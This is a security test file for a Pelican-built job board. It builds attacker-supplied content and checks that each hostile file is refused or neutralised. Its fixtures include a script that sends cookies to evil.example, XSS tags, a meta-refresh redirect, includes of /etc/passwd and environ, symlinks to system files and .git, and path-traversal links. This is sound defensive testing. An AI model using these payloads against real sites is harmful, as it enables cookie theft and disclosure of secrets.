"""An employer's pull request changes listing data and nothing else: the build reproduces each attack.

Each test runs a real Pelican build of a content folder holding an attacker's files. Files the
board refuses stop the build with an exact error naming them, before Pelican reads anything;
whatever the board accepts is built, and every file of the output is scanned whole: no line of
/etc/passwd, no value of the build's environment, nothing from .git, no script from content,
and the home page and the embed frame are the board's own.
"""

from __future__ import annotations

import html
import os
import re
import shutil
import uuid
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest
from pelican.readers import Readers
from pelican.settings import read_settings
from PIL import Image

from board import site
from conftest import CONTENT, ROOT, epoch_at, run_pelican, sample_today
from test_hostile import scan_html

SECRET = f"board-secret-{uuid.uuid4().hex}"  # in the build's environment: it must appear nowhere in the site
PASSWD_LINES = [line for line in Path("/etc/passwd").read_text().splitlines() if len(line) >= 12]
SCRIPT = '<script src="../logos/x.js"></script><script>alert(document.domain)</script>'


def page(title: str, slug: str | None, body: str, *extra: str) -> str:
    lines = [f"Title: {title}", *([f"Slug: {slug}"] if slug else []), *extra]
    return "\n".join(lines) + "\n\n" + body + "\n"


def attacker_content(folder: Path) -> Path:
    """The sample board plus everything the attacks of issue 11 added to content/."""
    content = folder / "content"
    shutil.copytree(CONTENT, content)
    pages, logos = content / "pages", content / "logos"
    (pages / "partners.md").write_text(page("Our partners", "partners", f"Thanks to them.\n\n{SCRIPT}"))
    (logos / "x.js").write_text("fetch('https://evil.example/?' + document.cookie)\n")
    (logos / "evil.html").write_text("<!DOCTYPE html><script>alert(document.cookie)</script>\n")
    (pages / "home.md").write_text(page("Home", "home", "Replaced.", "Save_as: index.html"))
    (pages / "frame.md").write_text(page("Frame", "frame", '<meta http-equiv="refresh" content="0;url=https://evil.'
                                                           'example">', "save_as: embed/index.html"))
    (pages / "faq.rst").write_text("FAQ\n===\n\n.. include:: /etc/passwd\n   :literal:\n")
    (pages / "environment.rst").write_text("Env\n===\n\n.. include:: /proc/self/environ\n   :literal:\n")
    (logos / "passwd.png").symlink_to("/etc/passwd")
    (logos / "environ.png").symlink_to("/proc/self/environ")
    (logos / "git").symlink_to("../../.git")
    (logos / "root").symlink_to("/")  # Pelican's own walk follows links: this one never ends
    (content / "organizations" / "mallory-corp.yaml").write_text(
        "name: Mallory Corp\nurl: https://mallory.example\nsummary: An organization whose logo is /etc/passwd.\n"
        "logo: logos/passwd.png\nmaintainers: [mallory]\n")
    return content


REFUSALS = [
    ("logos/environ.png", "is a symbolic link (to '/proc/self/environ'); the board never follows links"),
    ("logos/evil.html", "'evil.html' is not a PNG, JPEG or WebP image; content/logos/ holds organizations' logos only"),
    ("logos/git", "is a symbolic link (to '../../.git'); the board never follows links"),
    ("logos/passwd.png", "is a symbolic link (to '/etc/passwd'); the board never follows links"),
    ("logos/root", "is a symbolic link (to '/'); the board never follows links"),
    ("logos/x.js", "'x.js' is not a PNG, JPEG or WebP image; content/logos/ holds organizations' logos only"),
    ("organizations/mallory-corp.yaml:4:7", "logo: 'logos/passwd.png' is a symbolic link, which the board never "
                                            "follows"),
    ("pages/environment.rst", "'environment.rst' is not a .md file"),
    ("pages/faq.rst", "'faq.rst' is not a .md file"),
    ("pages/frame.md:3:1", "save_as: 'save_as:' cannot be set on a page: a page sets only its Title: and Slug:"),
    ("pages/home.md:3:1", "save_as: 'Save_as:' cannot be set on a page: a page sets only its Title: and Slug:"),
]


def test_the_attackers_files_stop_the_build_with_an_exact_error_each_and_nothing_is_built(tmp_path: Path) -> None:
    content = attacker_content(tmp_path)
    output = tmp_path / "output"
    output.mkdir()
    (output / "index.html").write_text("the previous site")
    result = run_pelican(content, output, epoch_at(sample_today()), extra_env={"BOARD_SECRET": SECRET})
    assert result.returncode != 0
    errors = [line for line in result.stderr.splitlines() if ": error: " in line]
    expected = [f"{content}/{where}{'' if ':' in where else ':1:1'}: error: {message}" for where, message in REFUSALS]
    assert sorted(errors) == sorted(expected)
    log = result.stdout + result.stderr
    assert f"InvalidContentError: {len(REFUSALS)} error(s) in the" in log and "nothing was built" in log
    assert [path.name for path in output.iterdir()] == ["index.html"]
    assert (output / "index.html").read_text() == "the previous site"


def accepted_content(folder: Path) -> Path:
    """What the board accepts of the attacks: pages and descriptions with script, a refresh, links
    that would have made Pelican copy files, remote images; and an image no organization names."""
    content = folder / "content"
    shutil.copytree(CONTENT, content)
    copy_links = "[a]({static}/../../../../../../../../etc/passwd) [b]({attach}../logos/kilimo-pay.png) " \
                 "[c]({filename}/../../../../../../../../proc/self/environ)"
    (content / "pages" / "partners.md").write_text(page("Our partners", "partners", f"Thanks.\n\n{SCRIPT}\n\n"
                                                        f"{copy_links}\n\n![x](https://tracker.example/p.gif)"))
    (content / "pages" / "moved.md").write_text(page("Moved", "moved", '<meta http-equiv="refresh" '
                                                                       'content="0;url=https://evil.example">'))
    listing = sorted((content / "opportunities").glob("*.yaml"))[0]
    text = listing.read_text()
    listing.write_text(text.replace("description: |\n", f"description: |\n  {SCRIPT} {copy_links}\n\n", 1))
    buffer = BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, "PNG")
    (content / "logos" / "unnamed-image.png").write_bytes(buffer.getvalue())
    return content


@pytest.fixture(scope="module")
def accepted_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    folder = tmp_path_factory.mktemp("accepted")
    result = run_pelican(accepted_content(folder), folder / "output", epoch_at(sample_today()),
                         extra_env={"BOARD_SECRET": SECRET})
    assert result.returncode == 0, result.stderr
    return folder / "output", result.stdout + result.stderr


def test_the_accepted_content_builds_without_copying_any_file_a_link_names(accepted_site: tuple[Path, str]) -> None:
    site, log = accepted_site
    assert "copying file" not in log and "/etc/passwd" not in log
    assert (site / "partners" / "index.html").is_file() and (site / "moved" / "index.html").is_file()
    assert sorted(path.name for path in (site / "logos").iterdir()) == sorted(
        path.name for path in (CONTENT / "logos").iterdir())


def test_no_file_of_the_site_holds_a_secret_of_the_build_machine(accepted_site: tuple[Path, str]) -> None:
    site, _ = accepted_site
    files = [path for path in site.rglob("*") if path.is_file()]
    assert len(files) > 100
    for path in files:
        assert ".git" not in path.relative_to(site).parts, path
        assert path.name not in {"x.js", "evil.html", "passwd.png", "environ.png", "unnamed-image.png"}, path
        data = path.read_bytes().decode("utf-8", errors="replace")
        assert SECRET not in data, path
        assert not any(line in data for line in PASSWD_LINES), path
        assert "repositoryformatversion" not in data, path


def test_no_page_of_the_site_runs_script_from_content_or_refreshes(accepted_site: tuple[Path, str]) -> None:
    site, _ = accepted_site
    for path in site.rglob("*.html"):
        assert scan_html(path.read_text(encoding="utf-8")) == [], path.relative_to(site)
    assert not list(site.rglob("x.js")) and not list(site.rglob("evil.html"))


def test_the_home_page_and_the_embed_frame_are_the_boards_own(accepted_site: tuple[Path, str],
                                                               sample_site: Path) -> None:
    site, _ = accepted_site
    assert (site / "embed" / "index.html").read_bytes() == (sample_site / "embed" / "index.html").read_bytes()
    main = re.compile(r"<main.*?</main>", re.DOTALL)
    home, sample_home = ((folder / "index.html").read_text() for folder in (site, sample_site))
    assert main.search(home)[0] == main.search(sample_home)[0]


def test_pelican_has_only_the_boards_two_readers() -> None:
    site.register()
    settings = read_settings(str(ROOT / "pelicanconf.py"))
    # "static" is Pelican's reader of static files, which the board has none of (STATIC_PATHS = []).
    assert sorted(Readers(settings).extensions) == ["md", "static", "yaml"]


def test_headers_give_the_pages_policy_and_deny_framing_everywhere_but_the_embed_frame(sample_site: Path) -> None:
    rules = parse_headers((sample_site / "_headers").read_text())
    policy, embed_policy = (meta_policy(sample_site / page) for page in ("index.html", "embed/index.html"))
    assert rules.pop("/*") == {"X-Content-Type-Options": "nosniff",
                               "Referrer-Policy": "strict-origin-when-cross-origin"}
    assert rules.pop("/embed/*") == {"Content-Security-Policy": embed_policy}
    assert "frame-ancestors" not in embed_policy
    for headers in rules.values():
        assert headers["Content-Security-Policy"] == f"{policy}; frame-ancestors 'none'"
    folders = {entry.name for entry in sample_site.iterdir() if entry.is_dir()} - {"embed"}
    root_pages = {f"/{page.name}" for page in sample_site.glob("*.html")}
    assert root_pages == {"/index.html", "/404.html"}
    assert set(rules) == {"/"} | root_pages | {f"/{name}/*" for name in folders}


def meta_policy(page: Path) -> str:
    return html.unescape(re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page.read_text())[1])


def parse_headers(text: str) -> dict[str, dict[str, str]]:
    rules: dict[str, dict[str, str]] = {}
    for line in text.splitlines():
        if not line.startswith(" "):
            rules[line] = current = {}
        else:
            name, value = line.strip().split(": ", 1)
            current[name] = value
    return rules


def test_remote_images_are_off_unless_the_board_allows_them(tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(CONTENT, content)
    listing = sorted((content / "opportunities").glob("*.yaml"))[0]
    image = "![chart](https://images.example/chart.png)"
    listing.write_text(listing.read_text().replace("description: |\n", f"description: |\n  {image}\n\n", 1))
    settings = tmp_path / "remote.py"
    settings.write_text(f"import sys\nsys.path.insert(0, {str(ROOT)!r})\nfrom pelicanconf import *  # noqa: F403\n"
                        f"BOARD_REMOTE_IMAGES = True\nTHEME = {str(ROOT / 'theme')!r}\n"
                        f"PLUGIN_PATHS = [{str(ROOT / 'plugins')!r}]\n")
    built = {}
    for name, config in (("off", "pelicanconf.py"), ("on", str(settings))):
        result = run_pelican(content, tmp_path / name, epoch_at(sample_today()), settings=config)
        assert result.returncode == 0, result.stderr
        built[name] = (tmp_path / name / "opportunities" / listing.stem / "index.html").read_text()
        warned = "is not on the board, so it is left out" in result.stderr
        assert warned is (name == "off")
    assert "images.example" not in built["off"] and "img-src &#39;self&#39;;" in built["off"]
    assert 'src="https://images.example/chart.png"' in built["on"] and "img-src &#39;self&#39; https:;" in built["on"]


def test_a_fifo_in_the_content_is_refused_without_the_build_waiting_on_it(tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(CONTENT, content)
    os.mkfifo(content / "opportunities" / "waiting-listing.yaml")
    os.mkfifo(content / "pages" / "waiting-page.md")
    result = run_pelican(content, tmp_path / "output", epoch_at(date(2026, 11, 2)))
    assert result.returncode != 0
    for name in ("opportunities/waiting-listing.yaml", "pages/waiting-page.md"):
        assert f"{content}/{name}:1:1: error: is a named pipe (FIFO), not a regular file" in result.stderr
